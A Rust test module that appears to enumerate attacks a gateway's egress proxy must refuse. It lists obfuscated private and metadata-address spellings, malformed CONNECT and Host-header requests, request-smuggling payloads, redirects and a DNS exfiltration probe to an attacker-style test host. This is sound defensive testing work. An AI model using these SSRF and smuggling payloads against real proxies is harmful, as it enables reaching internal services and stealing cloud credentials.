//! Attacks through the gateway's proxy, with every spelling of a host that it must refuse.

use super::Attack;
use crate::hostile::lab::OWN_PORT;

/// Spellings of hosts that two programs may read as two different hosts.
const SPELLINGS: [&str; 32] = [
    "10.0.0.5",
    "169.254.169.254",
    "192.168.7.7",
    "172.16.0.5",
    "100.64.0.5",
    "93.184.216.34",
    "167772165",
    "0xa000005",
    "0x0a.0x0.0x0.0x5",
    "012.0.0.5",
    "01200000005",
    "10.5",
    "10.0.5",
    "0",
    "127.1",
    "[::1]",
    "[fd00::5]",
    "[::ffff:10.0.0.5]",
    "[::ffff:a00:5]",
    "[64:ff9b::10.0.0.5]",
    "[2002:a00:5::]",
    "[fe80::5%lo]",
    "[fe80::5%25lo]",
    "[fd00:ec2::254]",
    "localhost",
    "10.0.0.5.",
    "①⓪.⓪.⓪.⑤",
    "10。0。0。5",
    "allowed.test\\0.10.0.0.5",
    "10.0.0.5\\0.open.test",
    "10.0.0.5%00.open.test",
    "allowed.test%2e10.0.0.5.nip.open.test",
];

/// Names below an allowed wildcard that resolve to addresses that a wildcard may not reach.
const INSIDE: [&str; 22] = [
    "private10",
    "private172",
    "private192",
    "loopback",
    "loopback2",
    "metadata",
    "alibaba",
    "carrier",
    "multicast",
    "nowhere",
    "documentation",
    "benchmark",
    "reserved",
    "loopback6",
    "mapped",
    "local6",
    "link6",
    "nat64",
    "sixtofour",
    "teredo",
    "metadata6",
    "compatible",
];

pub(super) fn attacks() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for host in SPELLINGS {
        attacks.push(Attack::new(
            "spelling of a host",
            host,
            format!("tunnel '{host}:80'; plain '{host}'; tunnel '{host}:8080'; plain '{host}:8080'"),
        ));
    }
    for name in INSIDE {
        let host = format!("{name}.open.test");
        attacks.push(Attack::new(
            "name that leads inside",
            &host,
            format!("plain {host}; tunnel {host}:443; plain {host}:8080; tunnel {host}:8080"),
        ));
    }
    let own = |host: &str| {
        format!(
            "curl -s --max-time 3 --noproxy none -x http://127.0.0.1:8787 http://{host}:{OWN_PORT}/health; \
             curl -s --max-time 3 --noproxy none -p -x http://127.0.0.1:8787 http://{host}:{OWN_PORT}/health; echo $?"
        )
    };
    for host in ["host.docker.internal", "127.0.0.1", "loopback.open.test", "[::ffff:127.0.0.1]", "public.open.test"] {
        attacks.push(Attack::new("the server's own port", host, own(host)));
    }
    for port in [21, 22, 25, 53, 80, 443, 3128, 8443] {
        attacks.push(Attack::new(
            "another port of an allowed host",
            format!("allowed.test:{port}"),
            format!("tunnel allowed.test:{port}; plain allowed.test:{port}; tunnel 93.184.216.34:{port}"),
        ));
    }
    for target in ["10.0.0.5:2375", "host.docker.internal:2375", "allowed.test:2376"] {
        attacks.push(Attack::new("the engine's port", target, format!("plain {target}; tunnel {target}")));
    }
    attacks.extend(rest().map(|(class, name, script)| Attack::new(class, name, script)));
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.5/",
        "http://167772165/",
        "http://[fd00::5]/",
        "http://private10.open.test/",
        "https://192.168.7.7/",
        "gopher://10.0.0.5:80/_EXFIL",
        "http://allowed.test:22/",
    ] {
        attacks.push(Attack::new(
            "redirect",
            url,
            format!(
                "curl -sL --max-time 4 --proto-redir all -x http://127.0.0.1:8787 http://allowed.test:8080/to/{url}"
            ),
        ));
    }
    attacks
}

fn rest() -> impl Iterator<Item = (&'static str, &'static str, &'static str)> {
    [
        ("rebinding", "a name that leads inside the second time", "for i in 1 2 3 4; do plain rebind.open.test:8080; tunnel rebind.open.test:8080; done"),
        ("caller's URL", "metadata from the task's env", "plain 169.254.169.254:8000; tunnel 169.254.169.254:8000; plain meta-named.test; tunnel meta-named.test:80"),
        ("odd CONNECT", "without a port", "raw 'CONNECT 10.0.0.5 HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\n\\r\\nEXFIL\\r\\n\\r\\n'"),
        ("odd CONNECT", "with a URL", "raw 'CONNECT http://10.0.0.5:80/ HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\n\\r\\nEXFIL\\r\\n\\r\\n'"),
        ("odd CONNECT", "with a path", "raw 'CONNECT allowed.test:8080/../10.0.0.5:80 HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\nEXFIL\\r\\n\\r\\n'"),
        ("odd CONNECT", "with a user name", "tunnel allowed.test:8080@10.0.0.5:80; tunnel allowed.test@10.0.0.5:80 allowed.test"),
        ("odd CONNECT", "with two ports", "tunnel allowed.test:8080:80; tunnel 10.0.0.5:80:8080 allowed.test:8080"),
        ("odd CONNECT", "port 0, 65536, 80x, +80, -1", "for port in 0 65536 80x +80 -1 0x50 '' ' 80'; do tunnel \"10.0.0.5:$port\"; tunnel \"allowed.test:$port\"; done"),
        ("odd CONNECT", "two targets in one line", "raw 'CONNECT allowed.test:8080 10.0.0.5:80 HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\nEXFIL\\r\\n\\r\\n'"),
        ("odd CONNECT", "a tab, a form feed, a line feed in the target", "for c in '\\t' '\\f' '\\n' '\\r' '\\v'; do raw \"CONNECT allowed.test:8080${c}10.0.0.5:80 HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\nEXFIL\\r\\n\\r\\n\"; done"),
        ("odd CONNECT", "in lower case, and with another protocol", "raw 'connect 10.0.0.5:80 HTTP/1.1\\r\\nHost: 10.0.0.5:80\\r\\n\\r\\nEXFIL\\r\\n\\r\\n'; raw 'CONNECT 10.0.0.5:80 HTTP/2.0\\r\\n\\r\\nEXFIL\\r\\n\\r\\n'; raw 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'"),
        ("odd CONNECT", "as HTTP/1.0 without Host", "raw 'CONNECT 10.0.0.5:80 HTTP/1.0\\r\\n\\r\\nEXFIL\\r\\n\\r\\n'"),
        ("another Host", "absolute form, Host inside", "plain allowed.test:8080 10.0.0.5; plain 10.0.0.5 allowed.test:8080"),
        ("another Host", "two Host headers", "raw 'GET http://10.0.0.5/ HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\nHost: 10.0.0.5\\r\\nConnection: close\\r\\n\\r\\n'; raw 'GET / HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nHost: 10.0.0.5\\r\\nConnection: close\\r\\n\\r\\n'"),
        ("another Host", "origin form with a foreign Host", "raw 'GET /EXFIL HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\nConnection: close\\r\\n\\r\\n'; raw 'GET / HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nConnection: close\\r\\n\\r\\n'"),
        ("another Host", "CONNECT to an allowed host, then another Host in it", "raw 'CONNECT allowed.test:8080 HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\nGET http://10.0.0.5/ HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\n\\r\\n'"),
        ("another Host", "CONNECT to an allowed host, then another in TLS's SNI", "timeout 3 openssl s_client -proxy 127.0.0.1:8787 -connect allowed.test:8080 -servername private10.open.test </dev/null"),
        ("another Host", "CONNECT in CONNECT", "raw 'CONNECT allowed.test:8080 HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\nCONNECT 10.0.0.5:80 HTTP/1.1\\r\\nHost: 10.0.0.5:80\\r\\n\\r\\n'"),
        ("smuggling", "X-Forwarded-Host, X-Original-URL and their like", "raw 'GET http://allowed.test:8080/ HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\nX-Forwarded-Host: 10.0.0.5\\r\\nX-Original-URL: http://10.0.0.5/\\r\\nX-Rewrite-URL: http://10.0.0.5/\\r\\nForwarded: host=10.0.0.5\\r\\nConnection: close\\r\\n\\r\\n'"),
        ("smuggling", "a second request behind two lengths", "raw 'POST http://allowed.test:8080/ HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://10.0.0.5/ HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\n\\r\\n'"),
        ("smuggling", "a header's name with a space, a colon, a NUL, folded", "for name in 'Host ' ':Host' 'Ho\\0st' ' Host' 'Host\\t' 'Höst'; do raw \"GET http://allowed.test:8080/ HTTP/1.1\\r\\n$name: 10.0.0.5\\r\\nConnection: close\\r\\n\\r\\n\"; done"),
        ("smuggling", "line feeds alone as ends of lines", "raw 'GET http://10.0.0.5/ HTTP/1.1\\nHost: 10.0.0.5\\n\\n'"),
        ("smuggling", "a line's end within the URL", "raw 'GET http://allowed.test:8080/\\r\\nHost: 10.0.0.5\\r\\n\\r\\n HTTP/1.1\\r\\n\\r\\n'; plain 'allowed.test:8080/%0d%0aHost:%2010.0.0.5'"),
        ("smuggling", "an upgrade to another protocol", "raw 'GET http://10.0.0.5/ HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\nConnection: Upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n'"),
        ("odd URL", "https, ftp, file, ws in absolute form", "for scheme in https ftp file ws unix; do raw \"GET $scheme://10.0.0.5/ HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\nConnection: close\\r\\n\\r\\n\"; done"),
        ("odd URL", "a user name that looks like the host", "plain 'allowed.test:8080@10.0.0.5' 10.0.0.5; plain 'allowed.test:8080#@10.0.0.5'; plain 'allowed.test:8080\\\\@10.0.0.5'"),
        ("odd URL", "a backslash, three slashes, none", "raw 'GET http:\\\\\\\\10.0.0.5/ HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\nConnection: close\\r\\n\\r\\n'; raw 'GET http:///10.0.0.5/ HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\nConnection: close\\r\\n\\r\\n'; raw 'GET //10.0.0.5/ HTTP/1.1\\r\\nHost: 10.0.0.5\\r\\nConnection: close\\r\\n\\r\\n'"),
        ("DNS", "a look-up by the proxy of a name that carries data", "plain exfil-aabbcc.attacker.test; tunnel exfil-aabbcc.attacker.test:443; plain exfil.allowed.test:8080"),
    ]
    .into_iter()
}
